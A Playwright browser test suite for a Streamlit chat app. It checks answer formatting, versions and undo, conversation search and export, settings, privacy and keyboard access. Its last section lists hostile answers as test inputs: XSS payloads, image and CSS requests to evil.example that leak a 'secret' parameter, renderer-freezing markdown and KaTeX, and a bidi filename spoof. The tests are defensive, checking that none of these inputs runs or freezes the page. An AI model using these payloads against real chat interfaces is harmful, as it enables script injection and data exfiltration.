"""Every action of the chat's surface, as a visitor takes it."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any, Protocol

import pytest
from playwright.sync_api import Locator, expect

from tests.browser.chat_page import ChatPage
from tests.browser.conftest import OpenChat, free_port, start_app
from tests.browser.stored_chats import (
    RICH,
    as_file,
    chain,
    conversation,
    large_export,
    message,
    store,
    without_model,
)

pytestmark = pytest.mark.browser

FRANCE = "What is the capital of France?"
SHORT = "Answer with one word: what colour is the sky?"
LONG = "Write a long story about a lighthouse keeper and the sea."


class QuietChat(Protocol):
    def __call__(
        self,
        *messages: dict[str, Any],
        titles: dict[str, str] | None = None,
        width: int = 1280,
        height: int = 800,
    ) -> ChatPage: ...


@pytest.fixture
def quiet_chat(open_chat: OpenChat) -> QuietChat:
    """A chat whose model never comes, with conversations that are already there."""

    def open_page(
        *messages: dict[str, Any],
        titles: dict[str, str] | None = None,
        width: int = 1280,
        height: int = 800,
    ) -> ChatPage:
        chat = open_chat(prepare=without_model, width=width, height=height)
        titles = titles or {"c1": "First chat"}
        rows = [
            conversation(each, title, age=index * 1000)
            for index, (each, title) in enumerate(titles.items())
        ]
        store(chat.page, chat.component, rows, list(messages))
        return chat

    return open_page


def menu(chat: ChatPage, title: str, item: str) -> None:
    chat.button(f"Actions for “{title}”").click()
    chat.component.get_by_role("menuitem", name=item, exact=True).click()


# ---- messages ----------------------------------------------------------------------------------


def test_an_answer_is_formatted_and_fetches_nothing_by_itself(quiet_chat: QuietChat) -> None:
    asked: list[str] = []
    chat = quiet_chat(*chain("c1", ["How?", f"<think>Hm.</think>{RICH}"]))
    chat.page.on("request", lambda request: asked.append(request.url))
    chat.page.context.route("https://images.example/**", lambda route: route.abort())
    chat.open_conversation("First chat")
    answer = chat.answers.first
    expect(answer.locator("table")).to_be_visible()
    expect(answer.locator(".katex").first).to_be_visible()
    expect(answer.locator("pre [style]").first).to_be_visible()
    expect(answer.get_by_test_id("reasoning")).not_to_have_attribute("open", "")
    answer.get_by_text("Thoughts").click()
    expect(answer.get_by_text("Hm.")).to_be_visible()
    image = answer.get_by_text("images.example")
    expect(image).to_be_visible()
    assert not [url for url in asked if "images.example" in url]
    with chat.page.expect_request("https://images.example/**"):
        chat.button("Load image").click()
    assert [url for url in asked if "localhost" not in url] == [
        "https://images.example/parabola.png?about=secret"
    ]


def test_answers_and_code_are_copied(quiet_chat: QuietChat) -> None:
    chat = quiet_chat(*chain("c1", ["How?", f"<think>Hm.</think>{RICH}"]))
    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    chat.open_conversation("First chat")
    read = "navigator.clipboard.readText()"
    chat.button("Copy code").click()
    expect(chat.component.get_by_text("Copied")).to_be_attached()
    assert chat.page.evaluate(read) == "def roots(a, b, c):\n    return a"
    chat.answers.first.get_by_role("button", name="Copy", exact=True).click()
    chat.page.wait_for_function(f"{read}.then(text => text.includes('quadratic'))")
    assert "Hm." not in chat.page.evaluate(read)


def test_versions_are_switched_and_deletions_taken_back(quiet_chat: QuietChat) -> None:
    chat = quiet_chat(
        *chain("c1", ["Why?", "Because."]),
        message("c1", 3, 0, "For a reason.", role="assistant"),
    )
    chat.open_conversation("First chat")
    expect(chat.answers).to_have_text(re.compile("For a reason"))
    expect(chat.component.get_by_text("2 of 2")).to_be_visible()
    chat.button("Previous version").click()
    expect(chat.answers).to_have_text(re.compile("Because"))
    chat.answers.first.get_by_role("button", name="Delete").click()
    expect(chat.answers).to_have_text(re.compile("For a reason"))
    # What had the focus is gone; it is on the way back.
    expect(chat.button("Undo")).to_be_focused()
    chat.page.keyboard.press("Enter")
    expect(chat.answers).to_have_text(re.compile("Because"))
    expect(chat.composer).to_be_focused()


def test_an_edit_can_be_left_as_it_was(quiet_chat: QuietChat) -> None:
    chat = quiet_chat(*chain("c1", ["Why?", "Because."]))
    chat.open_conversation("First chat")
    chat.composer.click()
    chat.page.keyboard.press("ArrowUp")
    field = chat.component.get_by_test_id("edit-field")
    expect(field).to_be_focused()
    expect(field).to_have_value("Why?")
    chat.page.keyboard.press("Escape")
    expect(field).to_have_count(0)
    expect(chat.composer).to_be_focused()


def test_an_edited_question_is_answered_beside_the_first_one(open_chat: OpenChat) -> None:
    chat = open_chat()
    chat.wait_until_ready()
    chat.send(SHORT)
    chat.wait_until_answered()
    questions = chat.component.locator('[data-testid="message"][data-role="user"]')
    questions.first.get_by_role("button", name="Edit").click()
    chat.component.get_by_test_id("edit-field").fill(FRANCE)
    chat.page.keyboard.press("Enter")
    assert "Paris" in chat.wait_until_answered()
    expect(questions).to_have_count(1)
    expect(questions.first.get_by_text("2 of 2")).to_be_visible()
    questions.first.get_by_role("button", name="Previous version").click()
    expect(questions.first).to_contain_text(SHORT)
    expect(chat.answers).not_to_contain_text("Paris")


def test_an_answer_is_asked_for_again_and_compared_side_by_side(open_chat: OpenChat) -> None:
    chat = open_chat()
    chat.wait_until_ready()
    chat.send(FRANCE)
    chat.wait_until_answered()
    chat.button("Answer again").click()
    expect(chat.answers).to_have_count(1)
    chat.wait_until_answered()
    expect(chat.component.get_by_text("2 of 2")).to_be_visible()
    chat.button("More").click()
    chat.component.get_by_role("menuitem", name=re.compile("same model again")).click()
    both = chat.component.get_by_test_id("comparison").get_by_test_id("message")
    expect(both).to_have_count(2)
    expect(both.last).to_have_attribute("data-status", "done", timeout=120_000)
    both.first.get_by_role("button", name="Go on with this answer").click()
    expect(chat.component.get_by_test_id("comparison")).to_have_count(0)
    expect(chat.component.get_by_text("2 of 3")).to_be_visible()
    assert chat.errors == []


def test_a_stopped_answer_goes_on(open_chat: OpenChat) -> None:
    chat = open_chat()
    chat.wait_until_ready()
    chat.send(LONG)
    chat.wait_until_streaming()
    chat.page.keyboard.press("Escape")
    before = chat.wait_until_answered("stopped")
    expect(chat.composer).to_be_focused()
    chat.button("Go on with this answer").click()
    chat.wait_until_streaming()
    chat.component.get_by_test_id("stop").click()
    assert chat.wait_until_answered("stopped").startswith(before.strip()[:40])


def test_screen_readers_hear_the_finished_answer_once(open_chat: OpenChat) -> None:
    chat = open_chat()
    chat.wait_until_ready()
    region = chat.component.locator("main > .sr-only[role=status]")
    region.evaluate(
        """region => {
          window.heard = [];
          const hear = () => region.textContent && window.heard.push(region.textContent);
          new MutationObserver(hear).observe(region, { childList: true, subtree: true });
        }"""
    )
    chat.send(FRANCE)
    chat.wait_until_answered()
    expect(region).to_contain_text("Paris")
    heard = region.evaluate("() => window.heard")
    assert len(heard) == 1
    assert heard[0].startswith("Answer: ")


# ---- conversations -----------------------------------------------------------------------------


def test_conversations_are_found_pinned_renamed_and_deleted_with_undo(
    quiet_chat: QuietChat,
) -> None:
    chat = quiet_chat(
        *chain("c1", ["Where is the lighthouse?", "On the coast."]),
        titles={"c1": "First chat", "c2": "Second chat", "c3": "Third chat"},
    )
    rows = chat.component.get_by_test_id("conversation")
    expect(rows).to_have_count(3)
    menu(chat, "Third chat", "Pin")
    expect(rows.first).to_contain_text("Third chat")
    menu(chat, "Second chat", "Rename")
    chat.component.get_by_role("textbox", name="Title of the conversation").fill("Renamed")
    chat.page.keyboard.press("Enter")
    expect(rows.filter(has_text="Renamed")).to_have_count(1)
    chat.page.keyboard.press("Control+k")
    search = chat.component.get_by_role("searchbox", name="Search conversations")
    expect(search).to_be_focused()
    search.fill("lighthouse")
    expect(rows).to_have_count(1)
    expect(rows.first.locator("mark")).to_have_text("lighthouse")
    rows.first.get_by_role("button", name=re.compile("^First chat")).click()
    expect(chat.answers).to_have_count(1)
    search.fill("")
    menu(chat, "First chat", "Delete")
    expect(rows).to_have_count(2)
    expect(chat.button("Undo")).to_be_focused()
    chat.button("Undo").click()
    expect(rows).to_have_count(3)
    expect(chat.answers).to_have_count(1)
    chat.page.reload()
    expect(rows.first).to_contain_text("Third chat")
    expect(rows.filter(has_text="Renamed")).to_have_count(1)


def test_what_is_exported_can_be_imported_elsewhere(
    quiet_chat: QuietChat, open_chat: OpenChat, tmp_path: Path
) -> None:
    chat = quiet_chat(*chain("c1", ["Why?", "Because."]))
    with chat.page.expect_download() as download:
        menu(chat, "First chat", "Export as JSON")
    file = tmp_path / "chat.json"
    download.value.save_as(file)
    with chat.page.expect_download() as download:
        menu(chat, "First chat", "Export as Markdown")
    assert download.value.suggested_filename.endswith(".md")
    assert "Because." in download.value.path().read_text()

    other = open_chat(prepare=without_model)
    outcome = other.component.get_by_test_id("transfer-outcome")
    other.component.get_by_test_id("import-file").set_input_files(file)
    expect(outcome).to_contain_text("New conversations: 1, new messages: 2.")
    other.open_conversation("First chat")
    expect(other.answers).to_have_text(re.compile("Because"))

    spoilt = json.loads(file.read_text())
    spoilt["conversations"][0]["messages"][0]["role"] = "robot"
    file.write_text(json.dumps(spoilt))
    other.component.get_by_test_id("import-file").set_input_files(file)
    expect(outcome).to_contain_text(
        'conversations[0].messages[0].role must be "user" or "assistant".'
    )


def test_draft_and_place_survive_pages_and_reloads(quiet_chat: QuietChat) -> None:
    contents = [f"Text number {number}. " + "word " * 60 for number in range(60)]
    chat = quiet_chat(*chain("c1", contents))
    chat.open_conversation("First chat")
    expect(chat.component.get_by_text("Text number 59.")).to_be_visible()
    messages = chat.component.get_by_role("group", name="Conversation", exact=True)
    messages.evaluate("e => e.scrollTo(0, e.scrollHeight / 2)")
    chat.composer.fill("half a thought")
    expect(chat.component.get_by_text("Text number 59.")).not_to_be_in_viewport()
    in_view = """all => all.filter(e => {
      const { top, bottom } = e.getBoundingClientRect();
      return top > 100 && bottom < innerHeight - 200;
    }).map(e => e.dataset.messageId)[0]"""
    message_id = chat.component.locator("[data-message-id]").evaluate_all(in_view)
    place = chat.component.locator(f'[data-message-id="{message_id}"]')
    expect(place).to_be_in_viewport()
    chat.go_to("Model status")
    expect(chat.composer).to_have_count(0)
    chat.go_to("Chat")
    expect(chat.composer).to_have_value("half a thought")
    expect(place).to_be_in_viewport()
    chat.page.reload()
    expect(chat.composer).to_have_value("half a thought")
    expect(place).to_be_in_viewport()


def test_on_a_phone_conversations_come_as_a_drawer(quiet_chat: QuietChat) -> None:
    chat = quiet_chat(*chain("c1", ["Why?", "Because."]), width=360, height=740)
    expect(chat.component.get_by_test_id("conversation")).to_have_count(0)
    chat.button("Conversations").click()
    expect(chat.component.get_by_role("dialog", name="Conversations")).to_be_visible()
    chat.open_conversation("First chat")
    expect(chat.component.get_by_role("dialog")).to_have_count(0)
    expect(chat.answers).to_have_count(1)
    chat.button("Conversations").click()
    chat.page.keyboard.press("Escape")
    expect(chat.component.get_by_role("dialog")).to_have_count(0)
    expect(chat.button("Conversations")).to_be_focused()


# ---- settings ----------------------------------------------------------------------------------


def test_settings_are_kept_per_chat_and_wrong_ones_are_refused(quiet_chat: QuietChat) -> None:
    chat = quiet_chat(titles={"c1": "First chat", "c2": "Second chat"})
    chat.open_conversation("First chat")
    chat.button("Settings").click()
    dialog = chat.component.get_by_role("dialog", name="Chat settings")
    temperature = dialog.get_by_label("Temperature", exact=True)
    temperature.fill("9")
    expect(temperature).to_have_attribute("aria-invalid", "true")
    expect(dialog.get_by_text("Between 0.0 and 2.0.")).to_be_visible()
    temperature.fill("0.7")
    expect(temperature).to_have_attribute("aria-invalid", "false")
    dialog.get_by_label("System prompt").fill("Answer in verse.")
    dialog.get_by_role("tab", name="New chats").click()
    dialog.get_by_label("Longest answer").fill("64")
    chat.page.keyboard.press("Escape")
    chat.open_conversation("Second chat")
    chat.button("Settings").click()
    expect(temperature).to_have_value("")
    expect(dialog.get_by_label("Longest answer")).to_have_attribute("placeholder", "64")
    dialog.get_by_label("Preset").select_option("Creative")
    expect(temperature).to_have_value("1")
    chat.page.keyboard.press("Escape")
    chat.page.reload()
    chat.open_conversation("First chat")
    chat.button("Settings").click()
    expect(temperature).to_have_value("0.7")
    expect(dialog.get_by_label("System prompt")).to_have_value("Answer in verse.")


def test_settings_reach_the_model_without_loading_it_again(open_chat: OpenChat) -> None:
    chat = open_chat()
    chat.wait_until_ready()
    chat.button("Settings").click()
    chat.component.get_by_role("dialog").get_by_label("Longest answer").fill("5")
    chat.page.keyboard.press("Escape")
    chat.send(LONG)
    chat.wait_until_answered()
    assert len(chat.answers.last.get_by_test_id("answer").inner_text().split()) <= 6


def test_the_language_is_the_visitors_choice(quiet_chat: QuietChat) -> None:
    chat = quiet_chat()
    chat.button("Settings").click()
    chat.component.get_by_role("tab", name="App").click()
    chat.component.get_by_label("Language").select_option("Deutsch")
    expect(chat.component.get_by_role("dialog", name="Chat-Einstellungen")).to_be_visible()
    expect(chat.component.locator("html")).to_have_attribute("lang", "de")
    chat.page.reload()
    expect(chat.component.get_by_role("button", name="Senden")).to_be_visible()


def test_the_context_window_fills_while_typing(quiet_chat: QuietChat) -> None:
    chat = quiet_chat()
    meter = chat.component.get_by_test_id("context-meter")
    expect(meter).to_have_text(re.compile(r"≈ 0 of [\d,]+ tokens"))
    chat.composer.fill("word " * 100)
    expect(meter).to_have_text(re.compile(r"≈ 125 of"))
    chat.composer.fill("word " * 20_000)
    expect(chat.notice("context-full")).to_be_visible()


def test_turns_that_left_the_context_are_told_apart(quiet_chat: QuietChat) -> None:
    texts = [f"Text {number}" for number in range(8)]
    rows = chain("c1", texts)
    rows[-1]["notes"] = [{"kind": "trimmed", "turns": 1}]
    chat = quiet_chat(*rows)
    chat.open_conversation("First chat")
    expect(chat.component.get_by_test_id("left-out")).to_be_visible()
    expect(chat.notice("trimmed")).to_be_visible()


# ---- privacy and the server --------------------------------------------------------------------


def test_the_meter_counts_no_byte_of_the_conversation(open_chat: OpenChat) -> None:
    chat = open_chat()
    chat.wait_until_ready()
    chat.send(FRANCE)
    chat.wait_until_answered()
    meter = chat.component.get_by_test_id("privacy-meter")
    expect(meter).to_have_attribute("data-bytes", "0")
    meter.click()
    dialog = chat.component.get_by_role("dialog")
    expect(dialog.get_by_text("0 bytes")).to_be_visible()
    dialog.get_by_text("The last message").click()
    expect(dialog.locator("pre")).to_contain_text('"phase"')
    expect(dialog.locator("pre")).not_to_contain_text("France")


def test_the_chat_goes_on_without_the_server_and_says_so(
    open_chat: OpenChat, tmp_path_factory: pytest.TempPathFactory
) -> None:
    log = tmp_path_factory.mktemp("away") / "log.txt"
    server = start_app(free_port(), log)
    chat = open_chat(server.url)
    chat.wait_until_ready()
    server.kill()
    expect(chat.notice("server-away")).to_be_visible(timeout=30_000)
    # Streamlit's own word on it lies over the page until it is dismissed.
    chat.page.get_by_role("dialog").get_by_role("button", name="Close").click()
    chat.composer.fill(FRANCE)
    chat.composer.press("Enter")
    assert "Paris" in chat.wait_until_answered()
    chat.composer.press("Control+,")
    expect(chat.component.get_by_role("dialog", name="Chat settings")).to_be_visible()


# ---- keyboard ----------------------------------------------------------------------------------


def test_shortcuts_are_listed_and_can_be_switched_off(quiet_chat: QuietChat) -> None:
    chat = quiet_chat()
    # Away from the message field, where a question mark is a question mark.
    chat.component.get_by_role("button", name="Settings").focus()
    chat.page.keyboard.press("?")
    dialog = chat.component.get_by_role("dialog", name="Keyboard shortcuts")
    expect(dialog).to_be_visible()
    dialog.get_by_role("checkbox").uncheck()
    chat.page.keyboard.press("Escape")
    chat.component.get_by_role("button", name="Settings").focus()
    chat.page.keyboard.press("?")
    expect(dialog).to_have_count(0)


def test_the_keyboard_comes_back_to_the_message_it_left(quiet_chat: QuietChat) -> None:
    chat = quiet_chat(*chain("c1", ["Why?", "Because."]))
    chat.open_conversation("First chat")
    keys = chat.page.keyboard
    chat.composer.focus()
    for _ in range(2):
        keys.press("Alt+ArrowUp")
        expect(chat.answers.last).to_be_focused()
        keys.press("Alt+ArrowDown")
        expect(chat.composer).to_be_focused()


def test_a_whole_visit_by_keyboard_alone(open_chat: OpenChat) -> None:
    chat = open_chat()
    keys = chat.page.keyboard
    chat.wait_until_ready()
    focus_by_tab(chat, chat.composer)
    keys.type(FRANCE)
    keys.press("Enter")
    assert "Paris" in chat.wait_until_answered()
    expect(chat.composer).to_be_focused()
    keys.press("Alt+ArrowUp")
    expect(chat.answers.last).to_be_focused()
    keys.press("Alt+ArrowUp")
    question = chat.component.locator('[data-testid="message"][data-role="user"]')
    expect(question).to_be_focused()
    keys.press("e")
    expect(chat.component.get_by_test_id("edit-field")).to_be_focused()
    keys.press("Escape")
    expect(chat.composer).to_be_focused()
    keys.press("Alt+ArrowUp")
    keys.press("Delete")
    expect(chat.answers).to_have_count(0)
    keys.press("Enter")  # Undo has the focus.
    expect(chat.answers).to_have_count(1)
    keys.press("Control+,")
    expect(chat.component.get_by_role("dialog", name="Chat settings")).to_be_visible()
    keys.press("Escape")
    expect(chat.composer).to_be_focused()
    keys.press("Control+Shift+O")
    expect(chat.answers).to_have_count(0)
    expect(chat.composer).to_be_focused()
    keys.press("Control+k")
    keys.type("Paris")
    row = chat.component.get_by_test_id("conversation")
    expect(row).to_have_count(1)
    focus_by_tab(chat, row.get_by_role("button").first)
    keys.press("Enter")
    expect(chat.answers).to_have_count(1)
    assert chat.errors == []


def focus_by_tab(chat: ChatPage, target: Locator) -> None:
    for _ in range(40):
        if target.evaluate("e => e === document.activeElement && document.hasFocus()"):
            return
        chat.page.keyboard.press("Tab")
    expect(target).to_be_focused()


# ---- hostile and foreign text ------------------------------------------------------------------

HOSTILE = {
    "script": "<script>parent.hacked = 1</script><img src=x onerror='parent.hacked=1'>",
    "link": "[click](javascript:parent.hacked=1) [x](data:text/html,x)",
    "image": "![p](https://evil.example/?q=secret)",
    "style": '<style>@import "https://evil.example/x.css"</style>',
    "table": "| a | b |\n| - | - |\n" + "| 1 | 2 |\n" * 20_000,
    "megabyte": "word " * 200_000,
    "one word": "x" * 1_000_000,
    "fence": "```js\n" + "let a = 1;\n" * 30_000,
    "quotes": "> " * 5_000 + "deep",
    "lists": "\n".join("  " * depth + "- x" for depth in range(700)),
    "brackets": "[" * 50_000,
    "emphasis": "*a **b " * 20_000,
    "formula": "$$" + "\\frac{1}{" * 500 + "}" * 500 + "$$ and $$\\def\\x{\\x\\x}\\x$$",
    "formulas": ("$$" + "\\sqrt{" * 60 + "x" + "}" * 60 + "$$\n\n") * 300,
    "tables": ("|a" * 50 + "|\n" + "|-" * 50 + "|\n" + ("|1" * 50 + "|\n") * 80 + "\n") * 20,
    "definitions": "[a]: <>\n\n" * 2_500,
    "lazy quotes": "> a\nb\n" * 30_000,
    "blank lines": "x" + "\n" * 500_000 + "x",
    "bidi": "\u202egnp.exe\u202c \u2066 unclosed",
    "think": "<think>" * 1000 + "x",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_answer_neither_runs_nor_freezes(quiet_chat: QuietChat, kind: str) -> None:
    asked: list[str] = []
    chat = quiet_chat(*chain("c1", ["Why?", HOSTILE[kind]]))
    chat.page.on("request", lambda request: asked.append(request.url))
    chat.open_conversation("First chat")
    expect(chat.answers).to_have_count(1)
    chat.composer.fill("still here")
    expect(chat.composer).to_have_value("still here")
    assert not [url for url in asked if "evil.example" in url]
    assert chat.page.evaluate("window.hacked") is None
    assert chat.errors == []


def test_a_large_import_leaves_the_page_free_and_can_be_cancelled(quiet_chat: QuietChat) -> None:
    chat = quiet_chat()
    conversations = chat.component.get_by_test_id("conversation")
    expect(conversations).to_have_count(1)
    field = chat.component.get_by_test_id("import-file")
    field.set_input_files(as_file(large_export(40_000)))
    importing = chat.component.get_by_test_id("importing")
    expect(importing).to_be_visible()
    chat.composer.fill("still here")
    expect(chat.composer).to_have_value("still here")
    importing.get_by_role("button").click()
    expect(importing).to_have_count(0)
    field.set_input_files(as_file(large_export(3_000)))
    # Of the cancelled one nothing was kept.
    expect(chat.component.get_by_test_id("transfer-outcome")).to_contain_text("3,000")
    expect(conversations).to_have_count(2)
    chat.page.reload()
    expect(conversations).to_have_count(2)
    assert chat.errors == []


def test_text_from_right_to_left_reads_right(quiet_chat: QuietChat) -> None:
    chat = quiet_chat(*chain("c1", ["ما هي عاصمة فرنسا؟", "عاصمة فرنسا هي **باريس**."]))
    chat.open_conversation("First chat")
    direction = "e => getComputedStyle(e).direction"
    assert chat.component.get_by_text("عاصمة فرنسا هي").evaluate(direction) == "rtl"
    assert chat.component.get_by_text("ما هي").evaluate(direction) == "rtl"
    expect(chat.component.locator("html")).not_to_have_attribute("dir", "rtl")
